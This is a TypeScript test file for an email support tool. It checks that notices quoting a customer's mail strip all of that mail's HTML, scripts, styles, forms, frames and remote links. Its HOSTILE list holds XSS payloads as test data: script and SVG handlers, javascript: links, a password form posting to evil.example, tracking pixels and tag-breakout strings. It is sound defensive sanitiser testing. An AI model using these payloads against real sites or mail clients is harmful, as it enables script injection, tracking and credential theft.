// H52: what a stranger's HTML brings along (scripts, SVG, MathML, CSS, forms, frames, pictures from elsewhere) is not in the
// notice that quotes his mail, neither in its HTML nor in its text: from the raw mail to the composed notice, with nothing in
// between left out. Every way a mail can be HTML.
import { describe, expect, test } from 'vitest';
import { composeNotice } from '../../src/notify/compose.ts';
import { readMail } from '../../src/parse/read.ts';
import { readStrictly } from '../mail-reader/reader.ts';
import { keys, makeData, makeRow, makeSetup, now } from './make.ts';

/** Each with words that must arrive, and what must not. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', 'KEPT<script src="http://evil.example/x.js">alert(1)</script>'],
  [
    'SVG with a script',
    'KEPT<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:x"><text>x</text></a></svg>',
  ],
  [
    'SVG that shows HTML',
    '<svg><foreignObject><body onload=alert(1)><form action="http://evil.example"></form></foreignObject></svg>KEPT',
  ],
  [
    'MathML',
    'KEPT<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mtext><img src=x onerror=alert(1)></mtext></maction></math>',
  ],
  [
    'a style sheet',
    '<style>@import url(http://evil.example/x.css); p{background:url(http://evil.example/p)}</style>KEPT',
  ],
  ['style attributes', '<p style="background:url(http://evil.example/t.png);position:fixed;inset:0">KEPT</p>'],
  [
    'a form',
    'KEPT<form action="http://evil.example/steal"><input name=password><button formaction="http://evil.example">go</button></form>',
  ],
  [
    'frames and objects',
    'KEPT<iframe src="http://evil.example"></iframe><object data="http://evil.example"></object><embed src="http://evil.example">',
  ],
  ['a picture that counts readers', 'KEPT<img src="http://evil.example/1x1.gif" srcset="http://evil.example/2 2x">'],
  [
    'a base and a refresh',
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">KEPT',
  ],
  [
    'links of every kind',
    'KEPT <a href="javascript:alert(1)">a</a> <a href="data:text/html,x">b</a> <a href="vbscript:x">c</a> <a href="http://evil.example">d</a>',
  ],
  ['handlers', '<p onclick="alert(1)" onmouseover=alert(2)>KEPT</p><details ontoggle=alert(3) open>'],
  ['comments and CDATA', 'KEPT<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(2)</script>]]>'],
  ['tags as text', 'KEPT&lt;script&gt;alert(1)&lt;/script&gt; &lt;svg onload=alert(1)&gt;'],
  ['tags that end ours', '</td></tr></table></blockquote></body></html><script>alert(1)</script>KEPT'],
  [
    'a template and a noscript',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>KEPT',
  ],
];

const head = (type: string): string =>
  `From: Eva <eva@kunde.example>\r\nTo: support@example.com\r\nSubject: x\r\nMessage-ID: <1@kunde.example>\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n`;
const ways: Readonly<Record<string, (html: string) => string>> = {
  'as HTML alone': (html) => `${head('text/html; charset=utf-8')}\r\n<html><body>${html}</body></html>\r\n`,
  'beside an empty text': (html) =>
    `${head('multipart/alternative; boundary=b')}\r\n--b\r\nContent-Type: text/plain\r\n\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`,
  'as its text': (html) => `${head('text/plain; charset=utf-8')}\r\n${html}\r\n`,
};
/** Those that quote a stranger; a reply is an agent's own words. */
const names = ['agent-new', 'agent-reply', 'forward'] as const;

/** Tags with their attributes' names, and everything a program would fetch or follow. */
function shapeOf(html: string): { readonly tags: ReadonlySet<string>; readonly urls: readonly string[] } {
  const tags = [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z:-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name, rest = '']) =>
      [name, ...[...rest.matchAll(/\s([a-z:-]+)=/gi)].map(([, attribute]) => attribute)].join(' ').toLowerCase(),
  );
  // Inside tags and style sheets only: elsewhere it is text.
  const inside = [...html.matchAll(/<style[\s\S]*?<\/style>|<[a-z][^>]*>/gi)].join('\n');
  const urls = [...inside.matchAll(/(?:href|src|action|srcset|background)="([^"]*)"|url\(([^)]*)\)|@import/gi)];
  return { tags: new Set(tags), urls: urls.map(([whole, one, other]) => one ?? other ?? whole) };
}

function noticeOf(name: (typeof names)[number], body: string): { readonly html: string; readonly text: string } {
  const row = makeRow({ name, template: name, kind: 'agent', data: makeData({ body }) });
  const { bytes, fault } = composeNotice(row, { setup: makeSetup(), keys, now });
  expect(fault).toBeNull();
  const leaves = readStrictly(bytes).leaves;
  const of = (type: string): string => leaves.find((leaf) => leaf.type === type)?.text ?? '';
  return { html: of('text/html'), text: of('text/plain') };
}

describe.each(Object.keys(ways))('H52: a mail %s', (way) => {
  test.each(HOSTILE)(
    'with %s: the notice that quotes it has no tag, no attribute and no address of his',
    async (_, html) => {
      const raw = Buffer.from(ways[way]?.(html) ?? '');
      const { text } = await readMail({ raw, size: raw.length, oversize: false });
      expect(text).toContain('KEPT');
      for (const name of names) {
        const plain = shapeOf(noticeOf(name, 'KEPT\n\nKEPT\nKEPT').html);
        const { html: shown } = noticeOf(name, text);
        const shape = shapeOf(shown);
        expect([name, [...shape.tags].filter((tag) => !plain.tags.has(tag))]).toEqual([name, []]);
        expect([name, shape.urls.filter((url) => !plain.urls.includes(url))]).toEqual([name, []]);
        // Every < left is one of our own tags.
        expect([name, shown.match(/<(?![a-z/!])/gi)]).toEqual([name, null]);
        expect([name, (shown.match(/<\/(?:html|body|blockquote)>/g) ?? []).length]).toEqual([
          name,
          (noticeOf(name, 'KEPT').html.match(/<\/(?:html|body|blockquote)>/g) ?? []).length,
        ]);
      }
    },
  );
});
